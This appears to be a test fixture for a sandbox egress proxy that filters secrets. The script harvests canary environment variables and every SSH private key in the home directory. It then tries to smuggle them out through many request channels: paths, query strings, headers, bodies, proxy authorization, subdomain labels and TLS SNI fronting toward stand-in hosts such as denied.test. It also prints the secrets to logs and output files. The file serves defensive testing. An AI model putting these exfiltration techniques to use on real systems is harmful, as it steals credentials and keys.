// Runs inside a bottle: takes every secret it can find, in every form, out through the gate in every place of a request,
// prints it, and writes it to its outputs. Says `sent` when all of it is done, and stays until `go` is in the workspace.
import { appendFileSync, existsSync, readdirSync, readFileSync } from 'node:fs'
import { connect } from 'node:net'
import { homedir } from 'node:os'
import { setTimeout as pause } from 'node:timers/promises'
import { connect as secure } from 'node:tls'
import { secretForms } from '../../../../src/gate/program/encodings.ts'
import { raw } from '../../gate/requests.ts'
import { pool } from '../../pool.ts'

const { names = [], stray = [] } = JSON.parse(readFileSync('canaries.json', 'utf8')) as Record<string, string[]>
const gate = new URL(process.env.http_proxy ?? '').hostname
const keys = existsSync(`${homedir()}/.ssh`)
  ? readdirSync(`${homedir()}/.ssh`).filter(name => !/^(config|known_hosts)$/.test(name))
  : []
const secrets = [
  ...names.map(name => process.env[name] ?? ''),
  ...keys.map(name => readFileSync(`${homedir()}/.ssh/${name}`, 'utf8').trim()),
]
if (secrets.includes('')) throw new Error('a secret is missing')

const formsOf = (secret: string) =>
  [secret, ...secret.split('\n')].flatMap(line => secretForms(line)).map(one => one.text)
const known = [...new Set(secrets.flatMap(formsOf))]
const all = [...known, ...stray]

const request = (line: string, host: string, headers: readonly string[] = [], body = '') =>
  [line, `Host: ${host}`, 'Connection: close', `Content-Length: ${Buffer.byteLength(body)}`, ...headers, '', body].join(
    '\r\n',
  )
const to = (url: string, headers?: readonly string[], body?: string) =>
  request(`${body ? 'POST' : 'GET'} ${url} HTTP/1.1`, 'allowed.test', headers, body)
const tunnel = (to: string, headers?: readonly string[]) => request(`CONNECT ${to} HTTP/1.1`, to, headers)
const inOneLine = (text: string) => text.replaceAll('\n', ' ')

const label = /^[A-Za-z0-9_-]{1,63}$/
const places: readonly ((text: string) => string)[] = [
  text => to(`http://allowed.test/v1/${text}/x`),
  text => to(`http://denied.test/v1/${text}/x`),
  text => to(`http://allowed.test/v1?q=${text}&r=1#${text}`),
  text => to(`http://user:${text}@allowed.test/`),
  text => to(`https://${text}:x@denied.test/a`),
  text => to('http://allowed.test/', [`X-Note: ${inOneLine(text)}`]),
  text => to('http://denied.test/', [`Authorization: Bearer ${inOneLine(text)}`]),
  text => to('http://allowed.test/', [`X-${inOneLine(text)}: 1`]),
  text => to('http://allowed.test/upload', ['Content-Type: text/plain'], text),
  text => tunnel('allowed.test:443', [`Proxy-Authorization: Basic ${inOneLine(text)}`]),
  text => (label.test(text) ? tunnel(`${text}.denied.test:443`) : to(`http://denied.test/${encodeURIComponent(text)}`)),
  text => (label.test(text) ? to(`http://${text}.wild.test/`) : to(`http://allowed.test/${encodeURIComponent(text)}`)),
  text => (label.test(text) ? tunnel(`${text}.wild.test:443`) : to(`http://allowed.test/?${encodeURIComponent(text)}`)),
]
// The first secret and the tokens in every place; of the others each form in some, one further on for the next.
const whole = new Set([...formsOf(secrets[0] ?? ''), ...stray])
const requests = all.flatMap((text, i) =>
  places.filter((_, at) => whole.has(text) || (at + i) % 4 === 0).map(place => place(text)),
)
const statuses = await pool(requests, 16, async one => (await raw(gate, one)).status)

/** A tunnel for the allowed host whose TLS asks for another: the gate tells the name that was asked for. */
async function front(servername: string): Promise<void> {
  const socket = connect(8888, gate)
  socket.write('CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n')
  await new Promise(done => socket.once('data', done).once('close', done))
  await new Promise(done => {
    const inner = secure({ socket, servername, rejectUnauthorized: false })
    inner
      .on('error', done)
      .on('close', done)
      .on('secureConnect', () => inner.destroy())
  })
  socket.destroy()
}
await pool(
  [...whole].filter(text => /^[A-Za-z0-9-]{1,63}$/.test(text)),
  8,
  text => front(`${text}.denied.test`),
)

for (const text of known) {
  console.log(`out ${text}`)
  console.error(`err ${text} and more`)
  console.log(`::warning::${inOneLine(text)}`)
}
for (const text of all) appendFileSync(process.env.BOTTLE_OUTPUT ?? '', `summary=${inOneLine(text)}\n`)
appendFileSync(process.env.BOTTLE_OUTPUT ?? '', 'verdict=fine\n')
console.log(`requests: ${statuses.length}, let through: ${statuses.filter(status => status === 200).length}`)
console.log('sent')
for (let i = 0; i < 3000 && !existsSync('go'); i++) await pause(20)
